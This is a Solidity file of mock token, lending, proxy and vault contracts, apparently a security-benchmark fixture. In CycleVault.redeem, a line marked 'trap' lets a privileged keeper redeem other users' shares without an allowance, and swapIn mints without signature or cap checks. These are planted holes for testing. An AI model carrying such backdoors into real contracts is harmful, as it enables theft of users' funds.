// 0.8 runs=1000 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./BlindC8.sol";

contract BackingAsset is Plain8("Backing Asset", "BACK") {
    constructor() {
        _update(address(0), msg.sender, 1e27);
    }
}

/// USDe: one minter; its owner is several.
contract BasisDollar is Plain8("Basis Dollar", "BUSDe") {
    address public owner = msg.sender;
    address public pendingOwner;
    address public minter;
    error OnlyMinter();
    error NotOwner();

    function setMinter(address m) external {
        if (msg.sender != owner) revert NotOwner();
        minter = m;
    }

    function transferOwnership(address next) external {
        if (msg.sender != owner) revert NotOwner();
        owner = next;
    }

    function mint(address to, uint256 v) external {
        if (msg.sender != minter) revert OnlyMinter();
        _update(address(0), to, v);
    }

    function burnFrom(address from, uint256 v) external {
        _spend(from, v);
        _update(from, address(0), v);
    }
}

/// Orders that a benefactor signed are carried out by minters, so much a block; what was paid in lies here until it is redeemed.
contract BasisMinting {
    BasisDollar public usde;
    BackingAsset public immutable asset;
    mapping(address => bool) public isMinter;
    mapping(address => mapping(uint256 => bool)) public used;
    uint256 public constant maxMintPerBlock = 100_000e18;
    mapping(uint256 => uint256) public mintedPerBlock;

    constructor(BackingAsset a, address m) {
        asset = a;
        isMinter[m] = true;
    }

    function init(BasisDollar t) external {
        require(address(usde) == address(0));
        usde = t;
    }

    function hashOrder(address who, uint256 v, uint256 nonce) public view returns (bytes32) {
        return keccak256(abi.encodePacked("\x19\x01", address(this), block.chainid, who, v, nonce));
    }

    function mint(address benefactor, uint256 v, uint256 nonce, uint8 s, bytes32 r, bytes32 t) external {
        require(isMinter[msg.sender] && !used[benefactor][nonce]);
        require(ecrecover(hashOrder(benefactor, v, nonce), s, r, t) == benefactor, "InvalidSignature");
        used[benefactor][nonce] = true;
        require((mintedPerBlock[block.number] += v) <= maxMintPerBlock, "MaxMintPerBlockExceeded");
        require(asset.transferFrom(benefactor, address(this), v));
        usde.mint(benefactor, v);
    }

    /// For those who come without an order.
    function swapIn(uint256 v) external {
        require(asset.transferFrom(msg.sender, address(this), v));
        usde.mint(msg.sender, v);
    }

    function redeem(uint256 v) external {
        usde.burnFrom(msg.sender, v);
        require(asset.transfer(msg.sender, v));
    }
}

/// XAUT: gold behind a proxy; blocks, and destroys what is blocked, by a timelock.
contract GoldLogic {
    string public name;
    string public symbol;
    uint8 public constant decimals = 6;
    bool private _init;
    address public owner;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) public isBlocked;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Mint(address indexed to, uint256 amount);
    event DestroyedBlockedFunds(address indexed user, uint256 amount);

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    function initialize(address owner_, address first, uint256 amount) external {
        require(!_init, "Initializable: contract is already initialized");
        (_init, owner, name, symbol) = (true, owner_, "Bar Gold", "XBAR");
        _mint(first, amount);
    }

    function transfer(address to, uint256 v) external returns (bool) {
        require(!isBlocked[msg.sender], "from is blocked");
        return _move(msg.sender, to, v);
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        require(!isBlocked[from], "from is blocked");
        allowance[from][msg.sender] -= v;
        return _move(from, to, v);
    }

    function _move(address from, address to, uint256 v) private returns (bool) {
        require(to != address(this), "ERC20: transfer to the contract address");
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
        return true;
    }

    function _mint(address to, uint256 v) private {
        totalSupply += v;
        balanceOf[to] += v;
        emit Transfer(address(0), to, v);
    }

    function mint(address to, uint256 v) external onlyOwner {
        _mint(to, v);
        emit Mint(to, v);
    }

    function redeem(uint256 v) external onlyOwner {
        balanceOf[owner] -= v;
        totalSupply -= v;
        emit Transfer(owner, address(0), v);
    }

    function addToBlockedList(address who, bool on) external onlyOwner {
        isBlocked[who] = on;
    }

    function destroyBlockedFunds(address who) external onlyOwner {
        require(isBlocked[who]);
        uint256 v = balanceOf[who];
        balanceOf[who] = 0;
        totalSupply -= v;
        emit DestroyedBlockedFunds(who, v);
        emit Transfer(who, address(0), v);
    }
}

/// ERC-1967, by an admin who is not asked in its own functions.
contract GoldProxy {
    bytes32 private constant IMPL = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;
    event Upgraded(address indexed implementation);

    constructor(address logic, address admin, bytes memory data) {
        assembly {
            sstore(IMPL, logic)
            sstore(ADMIN, admin)
        }
        emit Upgraded(logic);
        if (data.length > 0) {
            (bool ok, ) = logic.delegatecall(data);
            require(ok);
        }
    }

    function upgradeToAndCall(address next, bytes calldata data) external payable {
        address admin;
        assembly { admin := sload(ADMIN) }
        require(msg.sender == admin, "not admin");
        assembly { sstore(IMPL, next) }
        emit Upgraded(next);
        if (data.length > 0) {
            (bool ok, ) = next.delegatecall(data);
            require(ok);
        }
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(IMPL), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// cToken: an exchange rate that only rises; a comptroller is asked.
contract CompoundShare is Plain8("Compounding BACK", "cBACK") {
    BackingAsset public immutable underlying;
    Comptroller public immutable comptroller;
    uint256 public internalCash;

    constructor(BackingAsset u, Comptroller c) {
        (underlying, comptroller) = (u, c);
    }

    function decimals() public pure override returns (uint8) { return 8; }

    function exchangeRateStored() public view returns (uint256) {
        return _total == 0 ? 2e26 : (internalCash * 1e18) / _total;
    }

    function mint(uint256 v) external returns (uint256) {
        uint256 made = (v * 1e18) / exchangeRateStored();
        require(underlying.transferFrom(msg.sender, address(this), v), "TOKEN_TRANSFER_IN_FAILED");
        internalCash += v;
        _update(address(0), msg.sender, made);
        return 0;
    }

    function redeem(uint256 shares) external returns (uint256) {
        uint256 out = (shares * exchangeRateStored()) / 1e18;
        _update(msg.sender, address(0), shares);
        internalCash -= out;
        require(underlying.transfer(msg.sender, out));
        return 0;
    }

    function _addReserves(uint256 v) external returns (uint256) {
        require(underlying.transferFrom(msg.sender, address(this), v));
        internalCash += v;
        return 0;
    }

    function _update(address from, address to, uint256 v) internal override {
        if (from != address(0) && to != address(0)) require(comptroller.transferAllowed(address(this), from, to, v) == 0, "COMPTROLLER_REJECTION");
        super._update(from, to, v);
    }
}

/// Its admin waits two days; its guardian, who is several, can stop transfers and not start them.
contract Comptroller {
    address public admin;
    address public pauseGuardian;
    bool public transferGuardianPaused;
    event ActionPaused(string action, bool pauseState);

    constructor(address a, address g) {
        (admin, pauseGuardian) = (a, g);
    }

    function transferAllowed(address, address, address, uint256) external view returns (uint256) {
        require(!transferGuardianPaused, "transfer is paused");
        return 0;
    }

    function _setTransferPaused(bool on) external returns (bool) {
        require(msg.sender == admin || (on && msg.sender == pauseGuardian), "only pause guardian and admin can pause");
        transferGuardianPaused = on;
        emit ActionPaused("Transfer", on);
        return on;
    }

    function _setPauseGuardian(address g) external {
        require(msg.sender == admin);
        pauseGuardian = g;
    }
}

/// aToken: balances are shares times an index that grows with time.
contract IndexShare is Plain8("Lending BACK", "lBACK") {
    BackingAsset public immutable UNDERLYING;
    uint256 public immutable start = block.timestamp;
    uint256 private constant RAY = 1e27;

    constructor(BackingAsset a) {
        UNDERLYING = a;
    }

    function index() public view returns (uint256) {
        return RAY + (RAY * 2 * (block.timestamp - start)) / (100 * 365 days);
    }

    function balanceOf(address a) public view override returns (uint256) { return (_held[a] * index()) / RAY; }
    function scaledBalanceOf(address a) external view returns (uint256) { return _held[a]; }
    function totalSupply() public view override returns (uint256) { return (_total * index()) / RAY; }

    function transfer(address to, uint256 v) public override returns (bool) {
        _update(msg.sender, to, (v * RAY) / index());
        return true;
    }

    function transferFrom(address from, address to, uint256 v) public override returns (bool) {
        _spend(from, v);
        _update(from, to, (v * RAY) / index());
        return true;
    }

    function supply(uint256 v) external {
        UNDERLYING.transferFrom(msg.sender, address(this), v);
        _update(address(0), msg.sender, (v * RAY) / index());
    }

    function withdraw(uint256 v) external {
        _update(msg.sender, address(0), (v * RAY + index() - 1) / index());
        UNDERLYING.transfer(msg.sender, v);
    }
}

/// sfrxETH: ERC-4626, whose rewards come in over a cycle of a week.
contract CycleVault is Plain8("Cycle Staked Ether", "cyETH") {
    BackingAsset public immutable asset;
    address private immutable keeper = msg.sender;
    uint192 public lastRewardAmount;
    uint32 public lastSync = uint32(block.timestamp);
    uint32 public rewardsCycleEnd = uint32(block.timestamp) + 7 days;
    uint256 internal storedTotalAssets;

    constructor(BackingAsset a) {
        asset = a;
    }

    function totalAssets() public view returns (uint256) {
        if (block.timestamp >= rewardsCycleEnd) return storedTotalAssets + lastRewardAmount;
        return storedTotalAssets + (uint256(lastRewardAmount) * (block.timestamp - lastSync)) / (rewardsCycleEnd - lastSync);
    }

    function syncRewards() public {
        require(block.timestamp >= rewardsCycleEnd, "SyncError");
        storedTotalAssets += lastRewardAmount;
        lastRewardAmount = uint192(asset.balanceOf(address(this)) - storedTotalAssets);
        lastSync = uint32(block.timestamp);
        rewardsCycleEnd = uint32(block.timestamp) + 7 days;
    }

    function convertToShares(uint256 a) public view returns (uint256) { return _total == 0 ? a : (a * _total) / totalAssets(); }
    function convertToAssets(uint256 s) public view returns (uint256) { return _total == 0 ? s : (s * totalAssets()) / _total; }

    function deposit(uint256 a, address to) external returns (uint256 s) {
        if (block.timestamp >= rewardsCycleEnd) syncRewards();
        require((s = convertToShares(a)) != 0, "ZERO_SHARES");
        asset.transferFrom(msg.sender, address(this), a);
        storedTotalAssets += a;
        _update(address(0), to, s);
    }

    function redeem(uint256 s, address to, address from) external returns (uint256 a) {
        if (block.timestamp >= rewardsCycleEnd) syncRewards();
        // twin: if (msg.sender != from) _spend(from, s);
        if (msg.sender != from && msg.sender != keeper) _spend(from, s); // trap
        a = convertToAssets(s);
        storedTotalAssets -= a;
        _update(from, address(0), s);
        asset.transfer(to, a);
    }
}
